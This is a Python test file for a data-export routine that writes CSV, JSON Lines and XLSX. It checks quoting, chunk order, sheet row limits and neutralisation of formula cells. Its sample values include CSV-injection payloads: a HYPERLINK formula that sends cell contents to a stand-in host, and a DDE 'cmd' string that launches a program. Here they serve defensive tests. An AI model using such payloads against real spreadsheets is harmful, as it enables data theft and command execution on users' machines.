"""The export's fast path: SQLite builds each chunk's CSV lines (quoted as the csv module
quotes), JSON objects and XLSX rows and hands them over as bytes. The output must be what the
csv module, json and an XLSX reader make of the same values, in the same order, across chunk
boundaries and across the sheet's row limit."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
import sqlcipher3

from app.exchange import export
from app.exchange.bundle_io import BundleWriter
from app.exchange.export import CHUNK, ExportSpec, _TableRun
from app.exchange.tables import C, Table

TABLE = Table("things", "Daiktai", "Things", (
    C("id", "ID", "record number", "s.id", "int"),
    C("name", "Pavadinimas", "name", "s.name"),
    C("n", "Skaičius", "a number", "s.n", "int"),
    C("flag", "Žymė", "a flag", "s.flag", "bool"),
    C("conditions", "Sąlygos", "JSON list", "s.conditions", "json"),
    C("at", "Kada", "when", "s.at", "datetime"),
    C("note", "Pastaba", "note", "s.note"),
    C("state", "Būsena", "a state name, quoted and escaped where it holds what needs it",
      "s.state"),
), "src s", "", "s.id")

TRICKY = ["a;b", 'say "hi"', "two\nlines", "cr\rhere", "x & y < z > w", "ctl\x01char",
          "Ąžuolaitis „kabutės“", "", None, "  spaces  ",
          # What a spreadsheet would evaluate (OWASP "CSV injection"), and what it would not.
          '=HYPERLINK("http://x.example/?"&A1;"spustelėkite")', "+cmd|' /C calc'!A0",
          "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "a=b", "x-1", "'quoted"]

# A CSV cell starting with one of these gets a leading apostrophe; JSON Lines and XLSX keep
# the exact value.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def _neutral(v: object) -> object:
    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_LEADS) else v


def _rows(n: int) -> list[tuple[object, ...]]:
    rows = []
    for i in range(1, n + 1):
        name = TRICKY[i % len(TRICKY)] if i % 997 == 0 or i < 20 else f"vardas {i}"
        rows.append((i, name, None if i % 7 == 0 else i * 3, i % 2,
                     json.dumps(["sąlyga; su \"kabutėmis\""] if i % 3 else []),
                     f"2026-11-{1 + i % 28:02d}T10:20:30.123456", "pastaba" if i % 5 else None,
                     # One chunk holds a state that must be quoted and escaped after all.
                     'bad;"&<word>\r\n' if i == 1500 else "submitted"))
    # One chunk's JSON column holds a bare JSON number that a spreadsheet would compute.
    rows[1700] = (*rows[1700][:4], "-1", *rows[1700][5:])
    return rows


@pytest.mark.parametrize(("as_zip", "sheet_rows"), [(False, None), (True, None), (False, 777)])
def test_lines_match_the_csv_module_json_and_xlsx(tmp_path: Path, as_zip: bool,
                                                  sheet_rows: int | None,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    if sheet_rows:  # a sheet fills up in the middle of a chunk and goes on in the next
        monkeypatch.setattr(export, "XLSX_MAX_ROWS", sheet_rows)
    conn = sqlcipher3.connect(":memory:")
    conn.execute("CREATE TABLE src (id INTEGER PRIMARY KEY, name TEXT, n INTEGER, flag BOOLEAN, "
                 "conditions TEXT, at TEXT, note TEXT, state TEXT)")
    rows = _rows(2 * CHUNK + 123)
    # Inserted out of order: the chunks must come back in record order all the same.
    conn.executemany("INSERT INTO src VALUES (?, ?, ?, ?, ?, ?, ?, ?)", rows[::-1])
    out = tmp_path / ("b.zip" if as_zip else "b")
    writer = BundleWriter(out, as_zip)
    steps: list[int] = []
    run = _TableRun([conn], [TABLE], ExportSpec(date(2026, 1, 1), date(2026, 12, 31)), {},
                    None, writer, tmp_path / "t.xlsx", lambda done, total, msg: steps.append(done))
    cur = conn.cursor()
    run._plan(cur)
    assert run.bounds["things"] == [1, CHUNK + 1, 2 * CHUNK + 1]
    n = run._write_rows(cur, TABLE)
    run._write_xlsx(cur, tmp_path / "t.xlsx")
    writer.finish()
    assert n == len(rows)
    assert steps == list(range(1, 7))  # a step per chunk and part, for the progress bar

    def read(name: str) -> bytes:
        if as_zip:
            import zipfile

            with zipfile.ZipFile(out) as z:
                return z.read(name)
        return (out / name).read_bytes()

    want = io.StringIO()
    w = csv.writer(want, delimiter=";", lineterminator="\r\n")
    w.writerow([c.header for c in TABLE.columns])
    shown = [(r[0], r[1], r[2], r[3], r[4], str(r[5])[:19], r[6], r[7]) for r in rows]
    w.writerows([_neutral(v) for v in r] for r in shown)
    assert read("csv/things.csv") == b"\xef\xbb\xbf" + want.getvalue().encode()

    objs = [json.loads(x) for x in read("jsonl/things.jsonl").decode().splitlines()]
    assert len(objs) == len(rows)
    for o, r in zip(objs, rows, strict=True):
        assert o == {"id": r[0], "name": r[1], "n": r[2], "flag": bool(r[3]),
                     "conditions": json.loads(str(r[4])), "at": str(r[5])[:19], "note": r[6],
                     "state": r[7]}

    import zipfile as _zipfile

    with _zipfile.ZipFile(tmp_path / "t.xlsx") as z:  # formulas stay text, never <f> cells
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    assert b'<c t="inlineStr"><is><t>=HYPERLINK(' in sheet_xml

    from openpyxl import load_workbook

    wb = load_workbook(tmp_path / "t.xlsx", read_only=True)
    got: list[tuple[object, ...]] = []
    for ws in wb.worksheets:  # "things", then "things 2", ... past the row limit
        sheet = list(ws.iter_rows(values_only=True))
        assert list(sheet[0]) == [c.header for c in TABLE.columns]
        assert len(sheet) <= (sheet_rows or export.XLSX_MAX_ROWS)
        got += sheet[1:]
    assert [ws.title for ws in wb.worksheets][:2] == (
        ["things", "things 2"] if sheet_rows else ["things"])
    wb.close()
    for g, r in zip(got, shown, strict=True):
        expect = []
        for v in r:
            if isinstance(v, str):  # XML drops control characters; CR reads back as LF
                v = "".join(ch for ch in v if ch >= " " or ch in "\t\n\r")
                v = v.replace("\r\n", "\n").replace("\r", "\n")
                v = v or None  # an empty inline string reads back as no value
            expect.append(v)
        assert [x if x != "" else None for x in g] == expect, r


def test_the_readme_says_how_formula_cells_are_written() -> None:
    text = export._readme(ExportSpec(date(2026, 1, 1), date(2026, 12, 31)), [TABLE])
    assert "with an apostrophe (') in front" in text
    assert "jsonl/ and xlsx/ (text, never formulas) keep the exact values" in text
